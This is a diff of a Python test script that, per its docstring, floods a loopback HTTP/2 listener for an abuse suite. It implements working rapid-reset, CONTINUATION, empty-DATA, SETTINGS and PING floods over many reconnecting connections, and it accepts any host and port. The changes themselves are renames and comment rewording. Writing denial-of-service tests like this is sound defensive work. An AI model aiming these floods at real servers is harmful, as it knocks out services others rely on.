@@ -1,8 +1,8 @@
 #!/usr/bin/env python3
 """Floods a listener on the loopback with raw HTTP/2 frames, for the abuse suite.
 
-attack.py KIND HOST PORT SECONDS CONNECTIONS prints, as JSON, how many connections were opened and how many the server ended.
-It knows nothing of the service but its address, and needs nothing but Python.
+attack.py KIND HOST PORT SECONDS CONNECTIONS prints, as JSON, how many connections it opened and how many the server closed.
+It needs only Python.
 """
 import asyncio
 import json
@@ -18,8 +18,8 @@ def frame(kind, flags, stream, payload=b""):
 
 
 SETTINGS = frame(4, 0, 0)
-# GET / of the authority "x", by HPACK's static table.
-ASK = b"\x82\x86\x84\x41\x01x"
+# GET / with the authority "x", encoded with HPACK's static table.
+REQUEST = b"\x82\x86\x84\x41\x01x"
 NEVER_INDEXED = b"\x10\x01a\x01b"
 
 
@@ -27,7 +27,7 @@ def rapid_reset():
     stream = 1
     while stream < 2**31 - 2 * BATCH:
         streams = range(stream, stream + 2 * BATCH, 2)
-        yield b"".join(frame(1, 5, each, ASK) + frame(3, 0, each, b"\0\0\0\x08") for each in streams)
+        yield b"".join(frame(1, 5, each, REQUEST) + frame(3, 0, each, b"\0\0\0\x08") for each in streams)
         stream += 2 * BATCH
 
 
@@ -39,10 +39,10 @@ def forever(first, repeated):
 
 FLOODS = {
     "rapid_reset": rapid_reset,
-    "continuation": lambda: forever(frame(1, 1, 1, ASK), frame(9, 0, 1, NEVER_INDEXED * 8)),
-    "empty_data": lambda: forever(frame(1, 4, 1, ASK), frame(0, 0, 1)),
+    "continuation": lambda: forever(frame(1, 1, 1, REQUEST), frame(9, 0, 1, NEVER_INDEXED * 8)),
+    "empty_data": lambda: forever(frame(1, 4, 1, REQUEST), frame(0, 0, 1)),
     "settings": lambda: forever(b"", SETTINGS),
-    "ping": lambda: forever(b"", frame(6, 0, 0, b"honestly")),
+    "ping": lambda: forever(b"", frame(6, 0, 0, b"12345678")),
 }
 
 
@@ -51,7 +51,7 @@ class Attack:
         self.host, self.port, self.end = host, port, time.monotonic() + seconds
         self.opened = self.closed = 0
 
-    def goes_on(self):
+    def is_running(self):
         return time.monotonic() < self.end
 
     async def connect(self):
@@ -59,15 +59,15 @@ class Attack:
         self.opened += 1
         return streams
 
-    async def keep(self, once):
-        """Attacks again whenever the server has ended it."""
-        while self.goes_on():
+    async def repeat(self, once):
+        """Reconnects whenever the server closes the connection."""
+        while self.is_running():
             try:
                 await once()
                 self.closed += 1
             except (OSError, asyncio.TimeoutError):
                 self.closed += 1
-            # A client that is refused at once would otherwise measure how fast this program can call.
+            # Without a pause, immediate rejections would measure this program's connection rate.
             await asyncio.sleep(0.05)
 
     async def flood(self, kind):
@@ -77,24 +77,24 @@ class Attack:
             while await reader.read(65536):
                 pass
 
-        listening = asyncio.create_task(drain())
+        draining = asyncio.create_task(drain())
         try:
             writer.write(PREFACE + SETTINGS)
-            for piece in FLOODS[kind]():
-                if listening.done() or not self.goes_on():
+            for chunk in FLOODS[kind]():
+                if draining.done() or not self.is_running():
                     break
-                writer.write(piece)
+                writer.write(chunk)
                 await writer.drain()
                 await asyncio.sleep(0)
         finally:
-            listening.cancel()
+            draining.cancel()
             writer.transport.abort()
 
 
 async def main():
     kind, host, port, seconds, connections = sys.argv[1:]
     attack = Attack(host, int(port), float(seconds))
-    await asyncio.gather(*(attack.keep(lambda: attack.flood(kind)) for _ in range(int(connections))))
+    await asyncio.gather(*(attack.repeat(lambda: attack.flood(kind)) for _ in range(int(connections))))
     print(json.dumps({"begun": attack.opened, "closed": attack.closed}))
 
 
